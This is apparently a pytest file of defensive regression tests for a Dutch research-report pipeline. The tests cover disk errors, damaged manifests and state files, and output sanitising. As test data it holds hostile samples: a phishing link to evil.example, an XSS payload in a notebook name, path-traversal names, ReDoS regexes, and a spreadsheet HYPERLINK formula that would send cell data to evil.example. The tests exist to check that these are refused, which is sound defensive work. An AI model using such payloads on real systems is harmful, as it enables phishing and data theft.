"""Hostile tester 12 (issue 28): what its cases broke outside the file corpus
(``tests/corpus/hostile``, round 8): standard output on a full disk, a lock that is a pipe
or a folder, a damaged manifest, a run that fills the disk, notebook 04 without a status
history, links in generated output, patterns with choices inside bounded repeats, YAML 1.1
numbers behind a tag, number formats that show another value. Each test fails on main as
it was (8853f1f): a traceback, a wrong message, or a silent reading."""

from __future__ import annotations

import errno
import io
import json
import os
import sys
import time

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbformat.v4 import new_code_cell, new_notebook

from analysis import paths
from analysis.pipeline import journal, runner, runs as run_config
from analysis.pipeline.fs_safety import UnsafeFolder
from analysis.pipeline.runs import ReportError


class FullDisk(io.TextIOBase):
    """A standard output on a full disk: every write and flush fails as /dev/full does."""

    def writable(self) -> bool:
        return True

    def write(self, text: str) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")

    def flush(self) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    def fileno(self) -> int:
        raise io.UnsupportedOperation("no descriptor")


def test_output_on_a_full_disk_is_one_line_and_exit_code_1(monkeypatch, capsys):
    """I7: ``report --dry-run >/dev/full`` ended in a 29-line traceback (OSError: [Errno 28])."""
    from analysis.cli import main

    monkeypatch.setattr(sys, "stdout", FullDisk())
    code = main(["codebook"])
    err = capsys.readouterr().err
    assert code == 1
    assert err.count("\n") == 1 and "Traceback" not in err
    assert "standard output" in err and "the disk is full" in err


@pytest.mark.parametrize("kind", ["fifo", "folder"])
def test_a_lock_that_is_a_pipe_or_a_folder_is_named_with_its_removal(tmp_path, kind):
    """F5, F6: ``[Errno 22] Invalid argument`` / ``[Errno 21] Is a directory`` without advice."""
    lock = tmp_path / journal.LOCK_FILE
    os.mkfifo(lock) if kind == "fifo" else lock.mkdir()
    start = time.perf_counter()
    with pytest.raises(UnsafeFolder) as info, journal.exclusive(tmp_path, wait=False):
        pass
    assert time.perf_counter() - start < 5, "a pipe must not be waited on"
    message = str(info.value)
    assert str(lock) in message and ("a named pipe" if kind == "fifo" else "a folder") in message
    assert f"rm {'-r ' if kind == 'folder' else ''}{lock}" in message


@pytest.mark.parametrize("text", ["garbage{", '{"files": 5}', "[" * 50_000, '{"files": {"a": 1}}'])
def test_a_damaged_manifest_is_named_as_damaged_not_as_stray_files(tmp_path, text):
    """F3: ``manifest.json`` = ``garbage{`` drew "345 file(s) that no notebook run published ...
    remove them" (the advice deleted the whole publication)."""
    (tmp_path / "html").mkdir()
    (tmp_path / "html" / "index.html").write_text("<p>landing page</p>", encoding="utf-8")
    (tmp_path / "manifest.json").write_text(text, encoding="utf-8")
    with pytest.raises(ReportError) as info:
        runner.refuse_stray_files(tmp_path, {})
    message = str(info.value)
    assert "manifest.json is damaged" in message and "no notebook run published" not in message
    assert "Restore it from your backup" in message and "mv" in message


def test_a_sound_manifest_passes_the_damage_check(tmp_path):
    from analysis.pipeline.publish import manifest_problem

    assert manifest_problem(tmp_path) is None  # none yet: a first publication
    (tmp_path / "manifest.json").write_text(json.dumps({"files": {"html/index.html": "ab"}}), encoding="utf-8")
    assert manifest_problem(tmp_path) is None


@pytest.mark.parametrize("error, said", [(OSError(errno.EFBIG, "File too large"), "file size limit"),
                                          (OSError(errno.ENOSPC, "No space left on device"), "no space left")])
def test_a_run_that_fills_the_disk_says_so_and_points_at_no_cut_off_notebook(tmp_path, error, said):
    """J1: ``ulimit -f 200`` gave "failed: OSError: [Errno 27] File too large" and "The executed
    notebook is kept at .../failed/...ipynb" -- a file cut at 204,800 bytes, no JSON."""
    from analysis.pipeline.execute import _failure_message, keep_failed

    run = run_config.NotebookRun("01_x", tmp_path / "01_x.ipynb")
    message = _failure_message(run, error, None)
    assert said in message and "kept at" not in message and "Free space" in message

    class CellError(Exception):  # papermill's PapermillExecutionError carries the cell's error by name
        ename, evalue = "OSError", f"[Errno {error.errno}] {error.strerror}: 'out/x.csv'"

    assert said in _failure_message(run, CellError(), None)
    cut = tmp_path / "executed.ipynb"
    cut.write_text('{"cells": [{"cell_type": "code", "source": "x = ', encoding="utf-8")  # cut off by the limit
    assert keep_failed(cut, tmp_path / "failed" / "01_x.ipynb") is None
    assert not (tmp_path / "failed").exists()


def history_notebook(folder, name="04_time_to_work.ipynb"):
    cell = new_code_cell('participants_path = "data/raw/pilot_participants_synthetic.csv"\n'
                         'status_history_path = "data/raw/pilot_status_history_synthetic.csv"\nsynthetic_n = 0\n')
    cell.metadata["tags"] = ["parameters"]
    path = folder / name
    nbformat.write(new_notebook(cells=[cell]), path)
    return path


def test_notebook_04_without_a_status_history_is_refused_before_any_kernel_starts(tmp_path):
    """I10: refused only after 96 s, from inside the kernel."""
    nb = history_notebook(tmp_path)
    csv = tmp_path / "deelnemers.csv"
    csv.write_text("x\n", encoding="utf-8")
    none = run_config.NotebookRun("04_time_to_work", nb, {"participants_path": str(csv), "status_history_path": ""})
    problem = run_config.history_problem([none])
    assert problem and "needs a status history" in problem and "status_history_path is empty" in problem
    for params in ({"participants_path": str(csv)},  # the default history
                   {"participants_path": str(csv), "status_history_path": "", "synthetic_n": 100}):
        assert run_config.history_problem([run_config.NotebookRun("04_time_to_work", nb, params)]) is None
    other = history_notebook(tmp_path, "02_pilot_participants.ipynb")
    assert run_config.history_problem([run_config.NotebookRun("02", other, {"status_history_path": ""})]) is None


PHISHING = ('<p>De grootste groep is <a href="https://evil.example/login" style="display:block;width:100%">'
            "Download de gecorrigeerde data</a>.</p>")


def test_a_link_to_another_site_or_with_style_does_not_survive_generated_output():
    """G2: the allow-list kept ``<a href="https://..." style="display:block">`` from a label."""
    from analysis.pipeline import sanitize

    for clean in (sanitize.generated_markdown_html, sanitize.output_html):
        soup = BeautifulSoup(clean(PHISHING), "html.parser")
        assert soup.find("a", href=True) is None and soup.find(style=True) is None, clean.__name__
        assert "Download de gecorrigeerde data" in soup.get_text()
        for href in ("//evil.example/x", "HTTP://evil.example", "mailto:a@evil.example"):
            assert BeautifulSoup(clean(f'<p><a href="{href}">x</a></p>'), "html.parser").a.get("href") is None
    own = ('<p><a href="files/tables/x.csv" download>csv</a> <a href="#Figuur-7">Figuur 7</a> '
           '<a href="reviewer/02_pilot_participants.html#Tabel-1">Tabel 1</a></p>')
    assert sanitize.generated_markdown_html(own) == own  # the project's own links stay links
    cell = BeautifulSoup(sanitize.markdown_html(PHISHING), "html.parser").a  # a notebook's own cell may link out
    assert cell["href"] == "https://evil.example/login" and cell.get("style") is None


@pytest.mark.parametrize("pattern", ["(a|a){0,200}$", "^(a|aa){1,200}$", "^(vmbo|havo){2,40}$",
                                     ".{0,200}a.{0,200}b.{0,200}c", ".{0,50}a.*b.*c"])
def test_choices_in_bounded_repeats_and_chains_of_bounded_wildcards_are_refused(pattern):
    """H1-H3: accepted, then 20 s, 23 s and 11 s on one label of 25 to 200 characters."""
    from analysis.data.regex_guard import pattern_problem

    assert pattern_problem(pattern)


@pytest.mark.parametrize("pattern", ["^(geen (diploma|opleiding)|basis|mbo[ -]?(niveau )?1\\b)", "^\\d{4}-\\d{2}$",
                                     "^mbo[ -]{0,2}[234]$", "^(hbo|wo\\b|universiteit)", ".*niveau.*"])
def test_patterns_a_mapping_needs_stay_allowed_and_fast(pattern):
    import re

    from analysis.data.regex_guard import MAX_LABEL, pattern_problem

    assert pattern_problem(pattern) is None
    start = time.perf_counter()
    re.search(pattern, "a" * (MAX_LABEL - 1) + "!")
    assert time.perf_counter() - start < 1


@pytest.mark.parametrize("text", ["!!int 0b1010", "!!int 0x1F", "!!int '1:30'", "!!float .nan", "!!float .inf",
                                  "!!int 012"])
def test_yaml_1_1_numbers_behind_an_explicit_tag_are_refused_in_one_line(text):
    """D1, D2: ``!!int 0b1010`` and ``!!float .nan`` raised a ValueError traceback."""
    from analysis.strict_yaml import NumberTextLoader, StrictLoader, YamlLimitError, load

    for loader in (StrictLoader, NumberTextLoader):
        with pytest.raises(YamlLimitError, match="must be a number written in decimal digits"):
            load(f"n: {text}\n", "the file", loader)
    assert load("n: !!int 12\nx: !!float 2\n", "the file") == {"n": 12, "x": 2.0}


# (format code, value, shows another value): Excel's rules for number format sections (ECMA-376 18.8.31)
FORMATS = [("General", 55, False), ("0", 55, False), ("0.00", 34.0, False), ("#,##0", 55000, False),
           ('0" jaar"', 55, False), ('_-* #,##0_-;-* #,##0_-;_-* "-"_-;_-@_-', 0, False), ("0;-0;;@", 55, False),
           ('"55"', 40, True), ('[=1]"3";[=2]"2";0', 1, True), ('[<100]"onbekend";0', 55, True), ("0%", 0.34, True),
           ("0.0%", 0.34, True), ('"1"0', 55, True), ("#,##0,", 55000, True), ("0,,", 5, True),
           ('0;-0;0;"kok"', "locatiemanager", True), ("0;-0;0;@", "kok", False), ("0", "kok", False)]


@pytest.mark.parametrize("code, value, changes", FORMATS)
def test_a_number_format_that_shows_another_value_is_told_from_one_that_shows_it(code, value, changes):
    """C1-C4: literal text, a condition, a percentage or a scale showed another value than the
    cell held, and the cell was read without a word."""
    from analysis.data.cell_formats import Hiding, sections

    style = Hiding(code, tuple(tuple(p) for p in sections(code)), (0, 0, 0), None, (255, 255, 255), ())
    assert bool(style.changes(value)) is changes, style.changes(value)


@pytest.mark.parametrize("out", ["../victim2.txt", "tables/../../victim3.txt", "/tmp/victim4.txt", "~/x", ""])
def test_a_forged_state_naming_outputs_outside_the_folder_is_set_aside_as_damaged(tmp_path, out):
    """F7: a state whose run lists ``../victim2.txt`` ended every run with "the path ... leaves
    the folder; refused", naming neither the state nor the repair (nothing was deleted)."""
    from analysis.pipeline.state import STATE_FILE, read_state

    state = {"99_gone": {"status": "ok", "outputs": {"html/ok.html": "ab", out: "cd"}}}
    (tmp_path / STATE_FILE).write_text(json.dumps(state), encoding="utf-8")
    said = []
    assert read_state(tmp_path, said.append) == {}
    assert len(said) == 1 and "an output outside the reports folder" in said[0] and "set aside" in said[0]
    assert (tmp_path / ".runner-state.damaged.json").is_file() and not (tmp_path / STATE_FILE).exists()


def test_a_name_with_a_byte_that_is_not_utf8_is_said_so():
    """K2: ``/tmp/\\xff.csv`` was refused as holding "a line break, a tab or another control character"."""
    from analysis.cli import parser, path_argument_problem
    from analysis.pipeline.parameter_rules import path_problem

    name = os.fsdecode(b"/tmp/h12/\xff.csv")
    problem = path_argument_problem(parser().parse_args(["inspect", name, "--check"]))
    assert "a byte that is not UTF-8" in problem and "line break" not in problem
    assert "a byte that is not UTF-8" in path_problem("participants_path", name, paths.REPORTS)


def test_a_damaged_state_is_found_without_setting_it_aside(tmp_path):
    """F1, F2: a dry run said every run "never run" without a word that the state is damaged."""
    from analysis.pipeline.state import STATE_FILE, state_damage

    assert state_damage(tmp_path) is None
    for text, said in (('{"runs": 5}', "not an object"), ("[" * 100_000, "not valid JSON")):
        (tmp_path / STATE_FILE).write_text(text, encoding="utf-8")
        assert said in state_damage(tmp_path)
        assert (tmp_path / STATE_FILE).read_text(encoding="utf-8") == text  # left as it is


@pytest.mark.parametrize("name", ["01 <img src=x onerror=alert(1)>", "02#x", "03 spaties", "04.v2", "_x"])
def test_a_notebook_whose_name_is_no_plain_name_is_refused(tmp_path, name):
    """G6: ``01 <img src=x onerror=alert(1)>.ipynb`` was run and published as a page whose links
    held a raw ``<``, ``>`` and spaces (a ``#`` would break every link)."""
    nbformat.write(new_notebook(cells=[]), tmp_path / f"{name}.ipynb")
    with pytest.raises(ReportError, match="letters, digits, - and _ only"):
        run_config.discover_runs(tmp_path)


def test_a_csv_download_holds_no_formula_a_spreadsheet_would_run(tmp_path):
    """G9: a study's facts text reached ``pilot_constraints_*.csv`` verbatim (``=HYPERLINK(...)``,
    ``@SUM``, ``+``, a tab before ``=``); the XLSX of the same table stored it as text."""
    import pandas as pd

    from analysis.pipeline.export import write_csv

    texts = ['=HYPERLINK("https://evil.example/?d="&D3,"30 deelnemers")', "@SUM(1+1)", "+2 combineren",
             "\t=2+2 zijn", "-2+3 zorg", "-1.5", "-", "30 deelnemers", None]
    frame = pd.DataFrame({"tekst": texts, "n": range(len(texts))}, index=pd.Index(["=a"] + ["b"] * 8, name="rij"))
    write_csv(frame, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
    assert back["tekst"].tolist()[:7] == ["'" + t for t in texts[:5]] + ["-1.5", "-"]
    assert back["rij"].iloc[0] == "'=a" and back["n"].tolist() == [str(i) for i in range(len(texts))]
    assert frame["tekst"].iloc[0].startswith("="), "the caller's table is left as it is"


def test_a_studies_folder_with_two_defaults_is_one_line_not_a_traceback(monkeypatch, capsys):
    """G7: a copied study that kept ``default: true`` made every ``report`` command a 36-line
    traceback (its message, inside, was right)."""
    import argparse

    from analysis import cli
    from analysis.study.load import StudyError

    def handler(_args):
        raise StudyError("studies", [("default", True, "exactly one study file of the folder says default: true")])

    class Parser:
        def parse_args(self, _argv):
            return argparse.Namespace(handler=handler)

    monkeypatch.setattr(cli, "parser", Parser)
    assert cli.main(["report"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: studies: 1 problem(s) in the study file\n") and "Traceback" not in err
    assert "exactly one study file of the folder says default: true" in err
